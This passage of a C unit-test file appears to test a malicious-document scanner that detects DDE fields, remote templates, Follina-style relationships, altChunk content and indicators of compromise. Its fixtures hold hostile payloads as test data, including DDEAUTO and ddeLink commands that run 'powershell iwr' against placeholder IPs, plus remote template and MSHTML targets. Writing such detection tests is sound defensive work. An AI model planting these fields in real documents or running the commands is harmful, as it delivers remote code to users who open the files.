	assert_int_equal(f->severity, LURE_SEV_HIGH);
	assert_string_equal(lure_artifact_get_prop(d.part, "html_script"), "yes");
	lure_scan_free(d.s);

	/* HTML by its content type only (text before the markup) */
	GString *late = g_string_new(NULL);
	for (int i = 0; i < 600; i++)
		g_string_append(late, "padding ");
	g_string_append(late, "<IFRAME SRC=\"http://192.0.2.78/\"></IFRAME>");
	chunk_setup(&d, "chunk.htm", "word/chunk.htm", "data", "text/html", late->str);
	g_string_free(late, TRUE);
	f = chunk_finish(&d);
	assert_int_equal(f->severity, LURE_SEV_HIGH);
	lure_scan_free(d.s);

	/* remote reference only: high */
	chunk_setup(&d, "chunk.htm", "word/chunk.htm", "xml", "application/xhtml+xml",
		    "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>"
		    "<img src = \"\\\\192.0.2.77\\s\\i.png\"/></body></html>");
	f = chunk_finish(&d);
	assert_int_equal(f->severity, LURE_SEV_HIGH);
	assert_string_equal(lure_artifact_get_prop(d.part, "html_links"), "1");
	lure_scan_free(d.s);
}

static void test_altchunk_mht_qp(void **state)
{
	chunk_doc d;
	(void)state;
	chunk_setup(&d, "../word/a.mht", "word/a.mht", "data", "message/rfc822",
		    "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n"
		    "--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n"
		    "\r\n<html><scr=\r\nipt>x()</script></html>\r\n--b--\r\n");
	const lure_finding *f = chunk_finish(&d);
	assert_int_equal(f->severity, LURE_SEV_HIGH);
	assert_string_equal(lure_artifact_get_prop(d.part, "html"), "mht");
	lure_scan_free(d.s);
}

static void test_altchunk_missing_and_case(void **state)
{
	chunk_doc d;
	(void)state;
	chunk_setup(&d, "gone.rtf", NULL, NULL, NULL, NULL);
	const lure_finding *f = chunk_finish(&d);
	assert_int_equal(f->artifact, d.rels->id);
	assert_int_equal(f->severity, LURE_SEV_MEDIUM);
	assert_string_equal(lure_finding_get_detail(f, "note"), "missing part");
	assert_string_equal(lure_finding_get_detail(f, "part"), "word/gone.rtf");
	lure_scan_free(d.s);

	/* part names compare case-insensitively and percent-decoded */
	chunk_setup(&d, "AF%43hunk.RTF", "word/afchunk.rtf", "rtf", NULL, "{\\rtf1 x}");
	f = chunk_finish(&d);
	assert_int_equal(f->artifact, d.part->id);
	lure_scan_free(d.s);

	/* no aFChunk relationship, no finding */
	lure_scan *s = bare_scan("ooxml");
	assert_int_equal(lure_analyzer_altchunk.finish(s), LURE_OK);
	assert_int_equal(tu_count_findings(s, "ooxml.altchunk"), 0);
	lure_scan_free(s);
}

/* ---- IOCs ---- */

static void test_iocs_text_and_noise(void **state)
{
	static const char xml[] =
		"<?xml version=\"1.0\"?>"
		"<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" "
		"xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" "
		"xmlns:x=\"http://unknown-ns.example/2020/x\" "
		"xsi:schemaLocation=\"http://other-schema.example/s\" "
		"xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\">"
		"<w:t>see http://www.w3.org/TR/xml and purl: http://purl.org/dc/terms/</w:t>"
		"<w:instrText>HYPERLINK &quot;https://Payload.Example:8443/a?b=1&amp;c=2&quot;</w:instrText>"
		"<w:t>(http://paren.example/x).</w:t>"
		"<w:t>\\\\203.0.113.5\\share\\file001.url and \\\\\\\\files.example\\\\s\\\\x</w:t>"
		"<w:t>\\\\.\\pipe\\x \\\\?\\C:\\x ftp://203.0.113.6/f</w:t>"
		"<w:t>file:///C:/local/x.txt file://203.0.113.8/share/y</w:t>"
		"<w:t>file:///C:\\Users\\local\\Normal.dotm file:///C: file://files2.example\\s\\z</w:t>"
		"</w:document>";
	lure_scan *s = bare_scan("ooxml");
	lure_artifact *a = child_str(s, lure_scan_root(s), "word/document.xml", "xml", xml);
	(void)state;
	run_on(&lure_analyzer_iocs, s, a);

	assert_true(has_ioc(s, LURE_IOC_URL, "https://Payload.Example:8443/a?b=1&c=2"));
	assert_true(has_ioc(s, LURE_IOC_DOMAIN, "payload.example"));
	assert_true(has_ioc(s, LURE_IOC_URL, "http://paren.example/x"));
	assert_true(has_ioc(s, LURE_IOC_UNC, "\\\\203.0.113.5\\share\\file001.url"));
	assert_true(has_ioc(s, LURE_IOC_UNC, "\\\\files.example\\s\\x"));
	assert_true(has_ioc(s, LURE_IOC_IP, "203.0.113.5"));
	assert_true(has_ioc(s, LURE_IOC_URL, "ftp://203.0.113.6/f"));
	assert_true(has_ioc(s, LURE_IOC_UNC, "\\\\203.0.113.8\\share\\y"));
	assert_true(has_ioc(s, LURE_IOC_UNC, "\\\\files2.example\\s\\z"));
	assert_int_equal(s->iocs[LURE_IOC_UNC]->len, 4);
	/* no schema noise, no namespace declarations, no local paths */
	for (int t = 0; t < LURE_IOC__COUNT; t++) {
		for (guint i = 0; i < s->iocs[t]->len; i++) {
			const char *v = g_ptr_array_index(s->iocs[t], i);
			assert_null(strstr(v, "openxmlformats"));
			assert_null(strstr(v, "w3.org"));
			assert_null(strstr(v, "purl.org"));
			assert_null(strstr(v, "unknown-ns"));
			assert_null(strstr(v, "other-schema"));
			assert_null(strstr(v, "pipe"));
			assert_null(strstr(v, "local"));
		}
	}
	assert_int_equal(s->iocs[LURE_IOC_URL]->len, 3);
	lure_scan_free(s);
}

static void test_iocs_utf16_stream(void **state)
{
	static const char url[] = "http://198.51.100.23/MSHTML_C7/start.xml";
	GByteArray *b = g_byte_array_new();
	(void)state;
	static const uint8_t head[] = {0x01, 0x00, 0x00, 0x02, 0xE0, 0xC9, 0xEA, 0x79, 0x00};
	g_byte_array_append(b, head, sizeof(head)); /* odd offset for the text */
	for (const char *p = url; *p; p++) {
		uint8_t u[2] = {(uint8_t)*p, 0};
		g_byte_array_append(b, u, 2);
	}
	g_byte_array_append(b, (const uint8_t *)"\0\0\xff", 3);

	lure_scan *s = bare_scan("ole2");
	lure_artifact *a = child(s, lure_scan_root(s), "\x01Ole", "data", b->data, b->len);
	run_on(&lure_analyzer_iocs, s, a);
	assert_true(has_ioc(s, LURE_IOC_URL, url));
	assert_true(has_ioc(s, LURE_IOC_IP, "198.51.100.23"));
	/* containers are not read byte by byte */
	lure_artifact *z = child_str(s, lure_scan_root(s), "x.zip", "zip", "http://zip.example/");
	assert_false(lure_analyzer_iocs.accepts(s, z));
	lure_scan_free(s);
	g_byte_array_free(b, TRUE);
}

static void test_iocs_from_findings(void **state)
{
	lure_scan *s = bare_scan("ooxml");
	lure_artifact *root = lure_scan_root(s);
	(void)state;
	lure_finding *f = lure_finding_add(s, root, LURE_IND_OOXML_EXTERNAL_RELATIONSHIP, "x");
	lure_finding_detail(f, "target", "HtTp://Rel.Example/t.dotm");
	f = lure_finding_add(s, root, LURE_IND_OOXML_MHTML_TARGET, "x");
	lure_finding_detail(f, "target_normalized",
			    "mhtml:http://192.0.2.30/x.html!x-usc:http://inner.example/y");
	f = lure_finding_add(s, root, LURE_IND_DDE_FIELD, "x");
	lure_finding_detail(f, "command",
			    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k powershell "
			    "iwr http://198.51.100.9/p.ps1\"");
	f = lure_finding_add(s, root, LURE_IND_OOXML_EXTERNAL_RELATIONSHIP, "x");
	lure_finding_detail(f, "target", "file:///C:\\templates\\x.dotm");
	f = lure_finding_add(s, root, LURE_IND_OOXML_EXTERNAL_RELATIONSHIP, "x");
	lure_finding_detail(f, "target", "search-ms:query=a&crumb=location:\\\\192.0.2.9\\s");
	/* a finding target is kept even on a schema host */
	f = lure_finding_add(s, root, LURE_IND_OOXML_EXTERNAL_RELATIONSHIP, "x");
	lure_finding_detail(f, "target", "http://schemas.microsoft.com/x");

	assert_int_equal(lure_analyzer_iocs.finish(s), LURE_OK);
	assert_true(has_ioc(s, LURE_IOC_URL, "http://Rel.Example/t.dotm"));
	assert_true(has_ioc(s, LURE_IOC_DOMAIN, "rel.example"));
	assert_true(has_ioc(s, LURE_IOC_URL, "http://192.0.2.30/x.html"));
	assert_true(has_ioc(s, LURE_IOC_IP, "192.0.2.30"));
	assert_true(has_ioc(s, LURE_IOC_URL, "http://inner.example/y"));
	assert_true(has_ioc(s, LURE_IOC_URL, "http://198.51.100.9/p.ps1"));
	assert_true(has_ioc(s, LURE_IOC_UNC, "\\\\192.0.2.9\\s"));
	assert_true(has_ioc(s, LURE_IOC_URL, "http://schemas.microsoft.com/x"));
	for (guint i = 0; i < s->iocs[LURE_IOC_UNC]->len; i++)
		assert_null(strstr(g_ptr_array_index(s->iocs[LURE_IOC_UNC], i), "templates"));
	lure_scan_free(s);
}

static void test_ioc_defang(void **state)
{
	static const struct {
		const char *in, *out;
	} cases[] = {
		{"http://192.0.2.1/x", "hxxp://192.0.2[.]1/x"},
		{"https://evil.example/a.b/c", "hxxps://evil[.]example/a.b/c"},
		{"HTTP://EVIL.EXAMPLE", "HXXP://EVIL[.]EXAMPLE"},
		{"\\\\192.0.2.10\\share", "\\\\192.0.2[.]10\\share"},
		{"\\\\fileserver\\share", "\\\\fileserver\\share"},
		{"evil.example", "evil[.]example"},
		{"192.0.2.1", "192.0.2[.]1"},
		{"ftp://u:p@files.example:21/x", "fxp://u:p@files[.]example:21/x"},
		{"mhtml:http://a.example/x!x-usc:http://b.example/y",
		 "mhtml:hxxp://a[.]example/x!x-usc:hxxp://b[.]example/y"},
		{"2001:db8::1", "2001:db8::1"},
		{"", ""},
	};
	(void)state;
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		char *d = lure_ioc_defang(cases[i].in);
		assert_string_equal(d, cases[i].out);
		g_free(d);
	}
	assert_null(lure_ioc_defang(NULL));
}

/* ---- whole documents (ZIP + OPC handlers) ---- */

typedef tu_part part;

#define CT_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" \
	"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">" \
	"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>" \
	"<Default Extension=\"xml\" ContentType=\"application/xml\"/>" \
	"<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
#define RELS_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" \
	"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
#define PKG_RELS RELS_HEAD \
	"<Relationship Id=\"rId1\" Type=\"" NS_REL "officeDocument\" Target=\"word/document.xml\"/>" \
	"</Relationships>"

static lure_scan *scan_parts(const part *parts, size_t n)
{
	size_t len;
	uint8_t *zip = tu_zip_parts(parts, n, &len);
	lure_scan *s = tu_scan(zip, len, NULL);
	g_free(zip);
	return s;
}

/* True when the ZIP/OPC handlers are in the build (the scan found rels). */
static bool have_opc(const lure_scan *s)
{
	return s->relationships->len > 0;
}

static void test_docx_remote_template(void **state)
{
	static const part parts[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>"},
		{"_rels/.rels", PKG_RELS},
		{"word/document.xml", DOC_HEAD RUN("Hello") DOC_TAIL},
		{"word/_rels/settings.xml.rels", RELS_HEAD
			"<Relationship Id=\"rId1\" Type=\"" T_TEMPLATE "\" "
			"Target=\"%68ttp://192.0.2.15/tpl.dotm\" TargetMode=\"External\"/>"
			"</Relationships>"},
		{"word/settings.xml", "<w:settings xmlns:w=\"" W_NS "\"/>"},
	};
	(void)state;
	lure_scan *s = scan_parts(parts, G_N_ELEMENTS(parts));
	if (!have_opc(s)) {
		lure_scan_free(s);
		skip();
	}
	const lure_finding *f = tu_find_finding(s, "ooxml.remote_template", NULL, NULL);
	assert_non_null(f);
	assert_string_equal(lure_finding_get_detail(f, "source_part"), "word/settings.xml");
	assert_int_equal(lure_scan_verdict(s), LURE_VERDICT_MALICIOUS);
	assert_true(has_ioc(s, LURE_IOC_URL, "http://192.0.2.15/tpl.dotm"));
	assert_true(has_ioc(s, LURE_IOC_IP, "192.0.2.15"));
	for (guint i = 0; i < s->iocs[LURE_IOC_URL]->len; i++)
		assert_null(strstr(g_ptr_array_index(s->iocs[LURE_IOC_URL], i), "openxmlformats"));
	lure_scan_free(s);
}

static void test_docx_follina_and_dde(void **state)
{
	static const part parts[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>"},
		{"_rels/.rels", PKG_RELS},
		{"word/_rels/document.xml.rels", RELS_HEAD
			"<Relationship Id=\"rId9\" Type=\"" T_OLE "\" "
			"Target=\"http://192.0.2.20/x.html!\" TargetMode=\"External\"/>"
			"<Relationship Id=\"rId10\" Type=\"" T_HYPERLINK "\" "
			"Target=\"https://docs.example/help\" TargetMode=\"External\"/>"
			"</Relationships>"},
		{"word/document.xml", DOC_HEAD
			FLD("begin") INSTR("D") INSTR("D") INSTR("E") INSTR("AUTO")
			INSTR(" c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")
			FLD("separate") RUN("x") FLD("end") DOC_TAIL},
	};
	(void)state;
	lure_scan *s = scan_parts(parts, G_N_ELEMENTS(parts));
	if (!have_opc(s)) {
		lure_scan_free(s);
		skip();
	}
	assert_int_equal(tu_count_findings(s, "ooxml.msdt_target"), 1);
	const lure_finding *f = tu_find_finding(s, "ooxml.msdt_target", NULL, NULL);
	assert_int_equal(f->severity, LURE_SEV_CRITICAL);
	f = tu_find_finding(s, "ooxml.external_relationship", "type", "hyperlink");
	assert_non_null(f);
	assert_int_equal(f->severity, LURE_SEV_INFO);
	assert_non_null(tu_find_finding(s, "dde.field", "field", "DDEAUTO"));
	assert_true(has_ioc(s, LURE_IOC_URL, "http://192.0.2.20/x.html!"));
	assert_true(has_ioc(s, LURE_IOC_URL, "https://docs.example/help"));
	assert_true(has_ioc(s, LURE_IOC_DOMAIN, "docs.example"));
	lure_scan_free(s);
}

static void test_docx_altchunk(void **state)
{
	static const part parts[] = {
		{"[Content_Types].xml", CT_HEAD
			"<Default Extension=\"rtf\" ContentType=\"application/rtf\"/>"
			"<Default Extension=\"htm\" ContentType=\"text/html\"/></Types>"},
		{"_rels/.rels", PKG_RELS},
		{"word/_rels/document.xml.rels", RELS_HEAD
			"<Relationship Id=\"rIdA\" Type=\"" T_AFCHUNK "\" Target=\"afchunk.rtf\"/>"
			"<Relationship Id=\"rIdB\" Type=\"" T_AFCHUNK "\" Target=\"/word/c.htm\"/>"
			"</Relationships>"},
		{"word/document.xml", DOC_HEAD "<w:altChunk r:id=\"rIdA\"/>" DOC_TAIL},
		/* an RTF with an autolinked OLE2Link object */
		{"word/afchunk.rtf", "{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objclass OLE2Link}"
			"{\\*\\objdata 01050000020000000900000\n04f4c45324c696e6b000000000000000000}}}"},
		{"word/c.htm", "<html><body><iframe src=\"http://192.0.2.33/r.asp\"></iframe></body></html>"},
	};
	(void)state;
	lure_scan *s = scan_parts(parts, G_N_ELEMENTS(parts));
	if (!have_opc(s)) {
		lure_scan_free(s);
		skip();
	}
	assert_int_equal(tu_count_findings(s, "ooxml.altchunk"), 2);
	const lure_finding *f = tu_find_finding(s, "ooxml.altchunk", "part", "word/c.htm");
	assert_non_null(f);
	assert_int_equal(f->severity, LURE_SEV_HIGH);
	assert_string_equal(lure_finding_get_detail(f, "content_type"), "text/html");
	f = tu_find_finding(s, "ooxml.altchunk", "part", "word/afchunk.rtf");
	assert_non_null(f);
	assert_string_equal(lure_finding_get_detail(f, "content_type"), "application/rtf");
	/* high once the RTF handler reports the object */
	if (tu_count_findings(s, "rtf.object") > 0)
		assert_int_equal(f->severity, LURE_SEV_HIGH);
	else
		assert_int_equal(f->severity, LURE_SEV_MEDIUM);
	assert_true(has_ioc(s, LURE_IOC_URL, "http://192.0.2.33/r.asp"));
	lure_scan_free(s);
}

static void test_xlsx_ddelink(void **state)
{
	static const part parts[] = {
		{"[Content_Types].xml", CT_HEAD "</Types>"},
		{"xl/externalLinks/externalLink1.xml",
			"<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
			"<ddeLink ddeService=\"cmd\" ddeTopic=\"/c powershell iwr http://198.51.100.4/a\">"
			"</ddeLink></externalLink>"},
	};
	(void)state;
	lure_scan *s = scan_parts(parts, G_N_ELEMENTS(parts));
	const lure_artifact *a = tu_find_artifact(s, "xl/externalLinks/externalLink1.xml");
	if (a == NULL) {
		lure_scan_free(s);
		skip();
	}
	const lure_finding *f = tu_find_finding(s, "dde.field", "field", "ddeLink");
	assert_non_null(f);
	assert_int_equal(f->artifact, a->id);
	assert_string_equal(lure_finding_get_detail(f, "command"),
			    "cmd|/c powershell iwr http://198.51.100.4/a");
	assert_true(has_ioc(s, LURE_IOC_URL, "http://198.51.100.4/a"));
	lure_scan_free(s);
}

static void test_remote_include_fields(void **state)
{
	(void)state;
	lure_scan *s = tu_scan("x", 1, NULL);
	const lure_artifact *a = lure_scan_root(s);
	static const char unc[] = " INCLUDEPICTURE \"\\\\\\\\192.0.2.10\\\\share\\\\logo.png\" \\d ";
	const lure_finding *f = lure_dde_check_field(s, a, unc, sizeof(unc) - 1);
	assert_non_null(f);
	assert_string_equal(f->id, "field.remote_include");
	assert_int_equal(f->severity, LURE_SEV_HIGH);
	assert_string_equal(lure_finding_get_detail(f, "target_normalized"),
			    "\\\\192.0.2.10\\share\\logo.png");
	assert_string_equal(lure_finding_get_detail(f, "scheme"), "unc");
	static const char http[] = "includetext \"http://www.example/x.docx\"";
	f = lure_dde_check_field(s, a, http, sizeof(http) - 1);
	assert_non_null(f);
	assert_int_equal(f->severity, LURE_SEV_LOW);
	/* local and relative includes, and other fields, are not findings */
	static const char local[] = "INCLUDEPICTURE \"C:\\\\img\\\\a.png\"";
	assert_null(lure_dde_check_field(s, a, local, sizeof(local) - 1));
	static const char page[] = " PAGE \\* MERGEFORMAT ";
	assert_null(lure_dde_check_field(s, a, page, sizeof(page) - 1));
	static const char near[] = "INCLUDEPICTUREX \"\\\\\\\\192.0.2.10\\\\s\\\\a\"";
	assert_null(lure_dde_check_field(s, a, near, sizeof(near) - 1));
	assert_null(lure_dde_check_field(s, a, "LINK", 4));
	lure_scan_free(s);
}

/* A part flooded with DDE fields: 64 are listed, then one limit.exceeded
 * says the rest are not (never a silent skip). */
static void test_dde_field_cap_is_reported(void **state)
{
	(void)state;
	GString *rtf = g_string_new("{\\rtf1 ");
	for (int i = 0; i < 80; i++)
		g_string_append_printf(rtf, "{\\field{\\*\\fldinst DDEAUTO cmd%d}{\\fldrslt x}}", i);
	g_string_append_c(rtf, '}');
	lure_scan *s = tu_scan(rtf->str, rtf->len, NULL);
	assert_int_equal(tu_count_findings(s, "dde.field"), 64);
	assert_int_equal(tu_count_findings(s, "limit.exceeded"), 1);
	assert_non_null(tu_find_finding(s, "limit.exceeded", "limit", "dde_fields"));
	lure_scan_free(s);
	g_string_free(rtf, TRUE);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_dde_check_field),
		cmocka_unit_test(test_dde_command_detail),
		cmocka_unit_test(test_dde_command_bounded),
		cmocka_unit_test(test_dde_word_split_runs),
		cmocka_unit_test(test_dde_word_fldsimple),
		cmocka_unit_test(test_dde_word_nested_quote),
		cmocka_unit_test(test_dde_word_nested_result),
		cmocka_unit_test(test_dde_word_strict_and_parts),
		cmocka_unit_test(test_dde_word_benign_fields),
		cmocka_unit_test(test_dde_word_deep_nesting),
		cmocka_unit_test(test_dde_word_dedupe),
		cmocka_unit_test(test_dde_word_utf16_part),
		cmocka_unit_test(test_dde_excel_ddelink),
		cmocka_unit_test(test_dde_csv_sylk),
		cmocka_unit_test(test_dde_word_document_8bit),
		cmocka_unit_test(test_dde_word_document_utf16),
		cmocka_unit_test(test_rels_remote_template),
		cmocka_unit_test(test_rels_details),
		cmocka_unit_test(test_rels_follina_mhtml),
		cmocka_unit_test(test_rels_external_types),
		cmocka_unit_test(test_rels_many),
		cmocka_unit_test(test_altchunk_rtf_with_object),
		cmocka_unit_test(test_altchunk_rtf_plain),
		cmocka_unit_test(test_altchunk_html),
		cmocka_unit_test(test_altchunk_mht_qp),
		cmocka_unit_test(test_altchunk_missing_and_case),
		cmocka_unit_test(test_iocs_text_and_noise),
		cmocka_unit_test(test_iocs_utf16_stream),
		cmocka_unit_test(test_iocs_from_findings),
		cmocka_unit_test(test_ioc_defang),
		cmocka_unit_test(test_docx_remote_template),
		cmocka_unit_test(test_docx_follina_and_dde),
		cmocka_unit_test(test_docx_altchunk),
		cmocka_unit_test(test_xlsx_ddelink),
		cmocka_unit_test(test_dde_field_cap_is_reported),
		cmocka_unit_test(test_remote_include_fields),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
